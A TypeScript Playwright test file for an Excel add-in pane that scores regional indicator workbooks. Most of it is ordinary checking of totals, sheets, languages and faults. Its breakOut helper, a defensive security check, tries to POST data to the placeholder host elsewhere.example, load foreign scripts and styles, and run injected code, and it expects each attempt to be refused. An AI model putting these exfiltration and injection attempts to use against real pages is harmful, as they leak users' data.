import { readFile } from "node:fs/promises";
import type { Browser, Locator } from "playwright-core";
import { languages } from "../../src/locales/language";
import { createTranslator } from "../../src/locales/translator";
import { paneSteps } from "../../src/taskpane/state/paneState";
import { parseCellAddress } from "../../src/workbook/cellAddress";
import type { WorkbookGrid } from "../../src/workbook/grid";
import { resultRoles, staffRoles } from "../../src/workbook/sheetRole";
import { readXlsx } from "../../src/workbook/xlsx/readXlsx";
import { officeAddress } from "../excel-host/pageBridge";
import { findChromium } from "./chromium";
import {
  atRest,
  digestOf,
  leaders,
  openExcelPane,
  pressEvaluate,
  sheetTitles,
  visibleDigest,
  type ExcelLook,
  type ExcelPane,
} from "./excelPanePage";
import { horizontalOverflow, launchChromium, picture } from "./panePage";
import { productionBundle } from "./productionBundle";
import { serveFolders, type StaticServer } from "../../scripts/pane/staticServer";

jest.setTimeout(300_000);

const chromium = findChromium();
const suite = chromium === null ? describe.skip : describe;

const ours = "Показатели 2025";
const results = [
  "Итоги",
  "Награждение",
  "Постановление",
  "Баллы",
  "Места",
  "По блокам",
  "Карточка",
  "Данные",
  "Сведения",
  "Надёжность",
  "Проверка",
];
const staff = ["Критерии", "Настройки", "Организации", "Исправления"];
/** Beside the sheet of indicators and what a user sees, the hidden record. */
const sheetsAfterOne = 1 + results.length + staff.length + 1;
/** Resolution of 20.02.2026: places I–III with 100 201, 39 440 and 29 986. */
const published = [
  expect.stringMatching(/^1 \| .*Акмолинск.* \| 100 201$/),
  expect.stringMatching(/^2 \| .*Кызылорд.* \| 39 440$/),
  expect.stringMatching(/^3 \| .*Жамбыл.* \| 29 986$/),
];

suite("the production bundle in Chromium, inside Excel behind the real office.js", () => {
  let server: StaticServer;
  let browser: Browser;
  let sample: WorkbookGrid;
  let panes: ExcelPane[] = [];

  beforeAll(async () => {
    server = await serveFolders([await productionBundle()]);
    browser = await launchChromium(chromium ?? "", "narrow");
    const bytes = await readFile("assets/samples/indicators-2025.xlsx");
    sample = await readXlsx(new Uint8Array(bytes), "indicators-2025.xlsx");
  });

  afterAll(async () => {
    await browser.close();
    await server.close();
  });

  /** Whatever a test was about: the host knew every member that was used, and nobody else was asked for anything. */
  afterEach(async () => {
    const opened = panes;
    panes = [];
    for (const { page, excel, complaints, requests } of opened) {
      expect(await excel.evaluate((host) => host.unknownMembers())).toEqual([]);
      expect(complaints).toEqual([]);
      expect(requests.filter((address) => !isOwnOrOffice(address))).toEqual([]);
      await page.context().close();
    }
  });

  async function open(look: ExcelLook = {}): Promise<ExcelPane> {
    const pane = await openExcelPane(browser, server.url, sample, look);
    panes.push(pane);
    return pane;
  }

  function isOwnOrOffice(address: string): boolean {
    return address.startsWith(server.url) || address.startsWith(officeAddress);
  }

  it("starts on the open workbook: no file is needed, and Excel is asked only whether results stand in it", async () => {
    const { page, t, excel } = await open();
    await page.getByText(t("pane.start.excel")).waitFor();
    expect(await page.getByRole("button", { name: t("pane.file.sample") }).count()).toBe(0);
    expect(await excel.evaluate((host) => host.roundTrips())).toBeLessThanOrEqual(1);
  });

  it("takes over the dark theme that Excel tells", async () => {
    for (const darkTheme of [false, true]) {
      const { page } = await open({ darkTheme });
      const theme = page.locator("[data-theme]").first();
      expect(await theme.getAttribute("data-theme")).toBe(darkTheme ? "dark" : "light");
    }
  });

  it("evaluates a workbook of indicators alone: published totals, sheets added, the user's sheet as it was", async () => {
    const pane = await open();
    const before = await digestOf(pane, ours);
    await pressEvaluate(pane);
    expect(await leaders(pane)).toEqual(published);
    const titles = await sheetTitles(pane);
    expect(titles).toHaveLength(sheetsAfterOne);
    expect(titles).toEqual(expect.arrayContaining([ours, ...results, ...staff]));
    expect(sorted(await pane.excel.evaluate((host) => host.tabs()))).toEqual(sorted([ours, ...results, ...staff]));
    expect(await digestOf(pane, ours)).toBe(before);
    await pane.page.getByRole("button", { name: pane.t("pane.results.openTotals", { title: "Итоги" }) }).click();
    await atRest(pane);
    expect(await pane.excel.evaluate((host) => host.activeTab())).toBe("Итоги");
  });

  it("adds the criteria to a workbook without them, once", async () => {
    const pane = await open();
    const { page, t, excel } = pane;
    const before = await digestOf(pane, ours);
    await page.getByRole("tab", { name: t("pane.tabs.criteria") }).click();
    const add = page.getByRole("button", { name: t("pane.criteria.add") });
    await add.click();
    await page.getByText(t("pane.criteria.added", { titles: staff.join(", ") })).waitFor();
    expect(await sheetTitles(pane)).toEqual(expect.arrayContaining([ours, ...staff]));
    expect(await excel.evaluate((host) => [...host.host.workbook.names.keys()])).toEqual(
      expect.arrayContaining(staffRoles.map((role) => `bagalau.${role}`)),
    );
    await add.waitFor({ state: "detached" });
    await pressEvaluate(pane);
    expect(await leaders(pane)).toEqual(published);
    expect(await sheetTitles(pane)).toHaveLength(sheetsAfterOne);
    expect(await digestOf(pane, ours)).toBe(before);
  });

  it("counts by a weight that was changed in the criteria sheet, and replaces the results", async () => {
    const pane = await open();
    await pressEvaluate(pane);
    const [tabs, before] = [await pane.excel.evaluate((host) => host.tabs()), await sheetTitles(pane)];
    const firstIds = await resultIds(pane);
    expect(await weightIn(pane, { code: "A2", change: 2 })).toBe(1);
    await pressEvaluate(pane);
    // A2 is ROUND(members × 0.05 × weight): 45 275 gives 2264, then 4528; 19 552 gives 978, then 1955; 21 957 gives
    // 1098, then 2196. So 100 201 + 2264, 39 440 + 977 and 29 986 + 1098.
    expect(await leaders(pane)).toEqual([
      expect.stringMatching(/^1 \| .*Акмолинск.* \| 102 465$/),
      expect.stringMatching(/^2 \| .*Кызылорд.* \| 40 417$/),
      expect.stringMatching(/^3 \| .*Жамбыл.* \| 31 084$/),
    ]);
    const comparison = "Сравнение";
    expect((await pane.excel.evaluate((host) => host.tabs())).filter((tab) => tab !== comparison)).toEqual(tabs);
    // Two more: the comparison with the evaluation before, and, hidden, what it can be brought back from.
    expect(await sheetTitles(pane)).toContain(comparison);
    expect(await sheetTitles(pane)).toHaveLength(before.length + 2);
    expect((await resultIds(pane)).filter((id) => firstIds.includes(id))).toEqual([]);
    expect(await weightIn(pane, { code: "A2" })).toBe(2);
  });

  describe.each(languages)("in an Excel that speaks %s", (language) => {
    it("speaks it at every width, in the pane and on the sheets", async () => {
      const pane = await open({ language });
      const { page, t } = pane;
      await pressEvaluate(pane);
      expect(await sheetTitles(pane)).toContain(t("workbook.titles.totals"));
      expect(await page.locator("html").getAttribute("lang")).toBe(language);
      for (const width of [270, 320, 500]) {
        await page.setViewportSize({ width, height: 700 });
        for (const step of paneSteps) {
          await page.getByRole("tab", { name: t(`pane.tabs.${step}`) }).click();
          await page.getByRole("tabpanel", { name: t(`pane.tabs.${step}`) }).waitFor();
          await page.evaluate(() => {
            for (const details of document.querySelectorAll("details")) details.open = true;
          });
          await picture(page, `excel-${language}-${width}-${step}`);
          expect({ width, step, overflow: await horizontalOverflow(page) }).toEqual({ width, step, overflow: [] });
        }
      }
    });

    it("says what stands in the way and what to do, and leaves the workbook as it was", async () => {
      const pane = await open({ language });
      const { page, t, excel } = pane;
      await pressEvaluate(pane);
      const once = await excel.evaluate((host) => host.roundTrips());
      await pressEvaluate(pane);
      const trips = (await excel.evaluate((host) => host.roundTrips())) - once;
      const [titles, before] = [await sheetTitles(pane), await visibleDigest(pane)];
      // The last request clears up after the swap; the one before it swaps, and that one's forerunner builds the sheets.
      const faults = [
        { roundTrip: 1, kind: "cellEdit", code: "cellBeingEdited" },
        { roundTrip: trips - 1, kind: "cellEdit", code: "cellBeingEdited" },
        { roundTrip: 1, kind: "protectStructure", code: "structureProtected" },
        { roundTrip: trips - 2, kind: "protectStructure", code: "structureProtected" },
      ] as const;
      for (const { code, ...fault } of faults) {
        await excel.evaluate((host, { roundTrip, kind }) => {
          host.faultAt(roundTrip, { kind });
        }, fault);
        await pressEvaluate(pane);
        await page
          .getByRole("alert")
          .filter({ hasText: t(`workbook.faults.${code}`) })
          .waitFor();
        expect({ fault, same: (await visibleDigest(pane)) === before }).toEqual({ fault, same: true });
        await excel.evaluate(({ host }) => {
          host.endCellEdit();
          host.workbook.structurePassword = null;
        });
      }
      await pressEvaluate(pane);
      await page.getByRole("alert").waitFor({ state: "detached" });
      expect(await sheetTitles(pane)).toHaveLength(titles.length);
    });
  });

  it("changes its language by the switch, and that of the sheets at the next Evaluate", async () => {
    const pane = await open({ width: 270 });
    await pressEvaluate(pane);
    for (const language of ["kk", "en", "ru"] as const) {
      await pane.page.getByRole("combobox").selectOption(language);
      const t = createTranslator(language);
      await pane.page.getByRole("heading", { name: t("pane.results.heading", { year: 2025 }) }).waitFor();
      expect(await horizontalOverflow(pane.page)).toEqual([]);
      await pressEvaluate({ ...pane, t });
      const tabs = await pane.excel.evaluate((host) => host.tabs());
      expect(sorted(tabs)).toEqual(
        sorted([ours, ...staff, ...resultRoles.map((role) => t(`workbook.titles.${role}`))]),
      );
    }
  });

  it("goes from an issue to its cell", async () => {
    const pane = await open();
    const { page, t, excel } = pane;
    await typeInto(pane, "D17", "около 400");
    await pressEvaluate(pane);
    await page.getByRole("tab", { name: t("pane.tabs.data") }).click();
    await linkTo(pane, `${ours}!D17`).click();
    await atRest(pane);
    await expectSelection(pane, "D17");
    await excel.evaluate(({ host }, title) => {
      host.workbook.renameSheet(host.workbook.sheet(title), "Переименован");
    }, ours);
    await linkTo(pane, `${ours}!D17`).click();
    await page.getByText(t("workbook.faults.sheetGone")).waitFor();
  });

  it("does nothing on a second press while the first is at work", async () => {
    const alone = await open();
    await pressEvaluate(alone);
    const roundTrips = await alone.excel.evaluate((host) => host.roundTrips());
    // The bar of an evaluation up to 250 × 60.
    expect(roundTrips).toBeLessThanOrEqual(8);

    const pane = await open();
    const { page, t, excel } = pane;
    const letGo = await excel.evaluateHandle(({ host }) => {
      const answer = host.answer.bind(host);
      let release: () => void = () => undefined;
      const held = new Promise<void>((resolve) => (release = resolve));
      host.answer = async (text) => {
        await held;
        return answer(text);
      };
      return release;
    });
    const evaluate = page.getByRole("button", { name: t("pane.evaluate"), exact: true });
    await pressTwiceAtOnce(evaluate);
    await page.getByRole("button", { name: t("pane.cancel") }).waitFor();
    await pressTwiceAtOnce(evaluate);
    await evaluate.focus();
    await page.keyboard.press("Enter");
    await page.getByRole("tab", { name: t("pane.tabs.criteria") }).click();
    await pressTwiceAtOnce(page.getByRole("button", { name: t("pane.criteria.add") }));
    await letGo.evaluate((release) => {
      release();
    });
    await atRest(pane);
    // Who has turned to another step meanwhile stays there.
    await page.getByRole("tab", { name: t("pane.tabs.results") }).click();
    expect(await leaders(pane)).toEqual(published);
    expect(await excel.evaluate((host) => host.roundTrips())).toBe(roundTrips);
    expect(await sheetTitles(pane)).toEqual(await sheetTitles(alone));
  });

  it("loads from its own server and office.js only, and cannot be brought to send anything elsewhere", async () => {
    const { page, requests } = await openExcelPane(browser, server.url, sample);
    expect(requests).toContain(`${officeAddress}office.js`);
    expect(requests.filter((address) => !isOwnOrOffice(address))).toEqual([]);
    const arrived: string[] = [];
    await page.route("https://elsewhere.example/**", async (route) => {
      arrived.push(route.request().url());
      await route.fulfill({ status: 200, body: "window.injected = true" });
    });
    expect(await page.evaluate(breakOut)).toEqual({
      fetch: "refused",
      image: "refused",
      script: "refused",
      style: "refused",
      inlineScript: "refused",
      textAsCode: "EvalError",
    });
    expect(arrived).toEqual([]);
    await page.context().close();
  });
});

/** Runs in the page: the ways in which data could leave it, or foreign code get into it. */
async function breakOut(): Promise<Readonly<Record<string, string>>> {
  const elsewhere = "https://elsewhere.example/";
  const insert = (element: HTMLElement): Promise<string> =>
    new Promise((resolve) => {
      element.addEventListener("error", () => {
        resolve("refused");
      });
      element.addEventListener("load", () => {
        resolve("loaded");
      });
      document.body.append(element);
    });
  const script = Object.assign(document.createElement("script"), { src: `${elsewhere}script.js` });
  const style = Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${elsewhere}style.css` });
  const inline = Object.assign(document.createElement("script"), { textContent: "window.injected = true" });
  document.body.append(inline);
  const outcome = {
    fetch: await fetch(elsewhere, { method: "POST", mode: "no-cors", body: "100 201" }).then(
      () => "sent",
      () => "refused",
    ),
    image: await insert(Object.assign(document.createElement("img"), { src: `${elsewhere}pixel.png` })),
    script: await insert(script),
    style: await insert(style),
    inlineScript: "injected" in window ? "run" : "refused",
  };
  try {
    Reflect.construct(Function, ["return 1"]);
    return { ...outcome, textAsCode: "run" };
  } catch (error) {
    return { ...outcome, textAsCode: error instanceof Error ? error.name : "thrown" };
  }
}

function sorted(titles: readonly string[]): readonly string[] {
  return [...titles].sort();
}

function linkTo({ page, t }: ExcelPane, address: string): Locator {
  return page.getByRole("button", { name: t("pane.issues.goTo", { address }) });
}

async function expectSelection({ excel }: ExcelPane, address: string): Promise<void> {
  const cell = parseCellAddress(address);
  const selected = await excel.evaluate(({ host }) => {
    const { selection } = host.workbook;
    return selection && { title: host.workbook.sheetById(selection.sheetId).title, area: selection.area };
  });
  const area = { top: cell?.row, left: cell?.column, bottom: cell?.row, right: cell?.column };
  expect(selected).toEqual({ title: ours, area });
  expect(await excel.evaluate((host) => host.activeTab())).toBe(ours);
}

/** Before the pane can draw itself anew. */
function pressTwiceAtOnce(button: Locator): Promise<void> {
  return button.evaluate((element) => {
    if (!(element instanceof HTMLElement)) throw new Error("not a button");
    element.click();
    element.click();
  });
}

function resultIds({ excel }: ExcelPane): Promise<readonly string[]> {
  return excel.evaluate(({ host }, titles) => titles.map((title) => host.workbook.sheet(title).id), results);
}

/** As the user would type it into the indicator sheet. */
async function typeInto({ excel }: ExcelPane, address: string, text: string): Promise<void> {
  const cell = parseCellAddress(address);
  await excel.evaluate(
    ({ host }, { title, row, column, value }) => {
      host.workbook.sheet(title).contents.set(row, column, { kind: "text", value, formula: null, prefixed: false });
    },
    { title: ours, row: cell?.row ?? -1, column: cell?.column ?? -1, value: text },
  );
}

/** The cell of the criteria sheet in the criterion's row, below "Вес"; changed where a value is given. @returns its value before */
async function weightIn(
  { excel }: ExcelPane,
  criterion: { readonly code: string; readonly change?: number },
): Promise<unknown> {
  return excel.evaluate(({ host }, { code, change }) => {
    const { contents } = host.workbook.sheet("Критерии");
    const cells = contents.within({ top: 0, left: 0, bottom: 999, right: 99 });
    const row = cells.find(([, , { value }]) => value === code)?.[0] ?? -1;
    const column = cells.find(([, , { value }]) => value === "Вес")?.[1] ?? -1;
    const before = contents.get(row, column)?.value;
    if (change !== undefined)
      contents.set(row, column, { kind: "number", value: change, formula: null, prefixed: false });
    return before;
  }, criterion);
}
